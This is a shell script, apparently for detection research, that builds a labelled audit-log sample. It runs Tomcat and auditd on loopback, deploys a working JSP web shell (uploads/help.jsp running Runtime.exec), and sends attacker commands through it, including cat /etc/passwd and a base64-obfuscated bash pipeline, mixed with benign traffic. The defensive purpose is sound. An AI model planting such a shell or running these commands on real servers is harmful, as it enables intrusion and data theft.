#!/bin/sh
# SPDX-License-Identifier: ISC
# Capture samples/tomcat-jsp: a JSP web shell on Tomcat 10 whose
# Runtime.exec splits the command into argv without a shell, among
# ordinary traffic, with a real auditd on this machine.
#
#   sh tools/capture/tomcat-jsp.sh [OUTDIR]   (as root; default samples/tomcat-jsp)
#
# What it sets up, under a temporary directory and torn down after:
# - auditd with its own configuration: ENRICHED format, node=java01,
#   execve/execveat rules for both arches;
# - Tomcat 10 (as tomcat) on 127.0.0.1:8100 in the +01:00 zone, one
#   ROOT application (index.jsp, item.jsp, feedback.jsp taking POSTs,
#   and an uploaded uploads/help.jsp that runs Runtime.exec(cmd) and
#   prints the output), its AccessLogValve with Debian's pattern
#   %h %l %u %t "%r" %s %b in tomcat/localhost_access_log.DATE.txt;
# - clients 127.0.0.10 to 127.0.0.21 browsing, about 10 requests a
#   second, while 127.0.0.66 sends commands (GET, and two POSTs).
# truth.tsv: the attacker's requests that ran a command (time curl
# started, client, method, path, the command as sent: Runtime.exec
# splits it at white space).
#
# Needs: auditd, tomcat10, curl.  Removes only the audit rules it added;
# refuses to run when auditd is already running.
set -eu

OUT=$(realpath -m "${1:-$(dirname "$0")/../../samples/tomcat-jsp}")
NODE=java01
FORMAT=ENRICHED
WEB=/srv/www/tomcat-base
PORT=8100
BASE="http://127.0.0.1:$PORT"
. "$(dirname "$0")/lib.sh"

cap_start
C=$WEB
APP=$C/webapps/ROOT
mkdir -p "$C/conf" "$C/logs" "$C/work" "$C/temp" "$APP/uploads"

# --- the web application -------------------------------------------------
cat > "$APP/index.jsp" <<'JSP'
<h1>Inventory</h1><% for (int i = 1; i < 6; i++) { %><a href="/item.jsp?id=<%= i %>">item</a><% } %>
JSP
cat > "$APP/item.jsp" <<'JSP'
<h2>Item <%= Integer.parseInt(request.getParameter("id") == null ? "1" : request.getParameter("id")) %></h2>
JSP
cat > "$APP/feedback.jsp" <<'JSP'
<% String t = request.getParameter("text"); %>Thanks (<%= t == null ? 0 : t.length() %> chars)
JSP
cat > "$APP/uploads/help.jsp" <<'JSP'
<%@ page import="java.io.*" %><%
String c = request.getParameter("cmd");
if (c != null) {
	Process p = Runtime.getRuntime().exec(c);
	BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
	String l;
	while ((l = r.readLine()) != null)
		out.println(l);
	p.waitFor();
}
%>
JSP
printf 'h1 { color: navy; }\n' > "$APP/site.css"

# --- Tomcat -----------------------------------------------------------------
for f in web.xml catalina.properties logging.properties context.xml; do
	cp "/etc/tomcat10/$f" "$C/conf/"
done
cat > "$C/conf/server.xml" <<EOF
<?xml version="1.0" encoding="UTF-8"?>
<Server port="-1" shutdown="SHUTDOWN">
  <Service name="Catalina">
    <Connector port="$PORT" address="127.0.0.1" protocol="HTTP/1.1"
               connectionTimeout="20000"/>
    <Engine name="Catalina" defaultHost="localhost">
      <Host name="localhost" appBase="webapps" unpackWARs="false" autoDeploy="false">
        <Valve className="org.apache.catalina.valves.AccessLogValve"
               directory="logs" prefix="localhost_access_log" suffix=".txt"
               pattern="%h %l %u %t &quot;%r&quot; %s %b"/>
      </Host>
    </Engine>
  </Service>
</Server>
EOF
chown -R tomcat:tomcat "$C"
touch "$T/tomcat.pid"
chown tomcat "$T/tomcat.pid"
runuser -u tomcat -- env CATALINA_HOME=/usr/share/tomcat10 CATALINA_BASE="$C" \
    CATALINA_PID="$T/tomcat.pid" CATALINA_TMPDIR="$C/temp" TZ=Europe/Berlin \
    /usr/share/tomcat10/bin/catalina.sh start >/dev/null
cap_server tomcat
i=0
until curl -s -o /dev/null "$BASE/index.jsp"; do	# bounded: 60 s
	i=$((i + 1))
	[ "$i" -lt 60 ] || { echo "capture: Tomcat did not start" >&2; exit 1; }
	sleep 1
done
# Compile every page before the capture, so no compiler runs in it.
for p in index.jsp item.jsp feedback.jsp uploads/help.jsp; do
	curl -s -o /dev/null "$BASE/$p"
done

# --- traffic ----------------------------------------------------------------
cap_traffic 130 10 15 "$BASE/" "$BASE/item.jsp?id=3" "$BASE/site.css" \
    "POST $BASE/feedback.jsp"
cap_traffic 130 16 21 "$BASE/index.jsp" "$BASE/item.jsp?id=4" \
    "POST $BASE/feedback.jsp"
get() {		# COMMAND
	truth 127.0.0.66 GET /uploads/help.jsp "$1"
	curl -s -o /dev/null --interface 127.0.0.66 -A "Mozilla/5.0 (compatible)" -G \
	    --data-urlencode "cmd=$1" "$BASE/uploads/help.jsp" || true
	sleep 1
}
post() {	# COMMAND
	truth 127.0.0.66 POST /uploads/help.jsp "$1"
	curl -s -o /dev/null --interface 127.0.0.66 -A "Mozilla/5.0 (compatible)" \
	    --data-urlencode "cmd=$1" "$BASE/uploads/help.jsp" || true
	sleep 1
}
sleep 2
get "id"
get "uname -a"
get "cat /etc/passwd"
post "ls -la /srv/www"
get "ps -ef"
get "bash -c {echo,aWQgLXVu}|{base64,-d}|bash"
post "find /srv/www -name *.jsp"
get "sleep 2"

# --- collect ----------------------------------------------------------------
cap_collect
mkdir -p "$OUT/tomcat" "$OUT/www"
cp "$C"/logs/localhost_access_log* "$OUT/tomcat/"
cp "$C/conf/server.xml" "$OUT/tomcat/"
cp -r "$APP/." "$OUT/www/"
cap_done
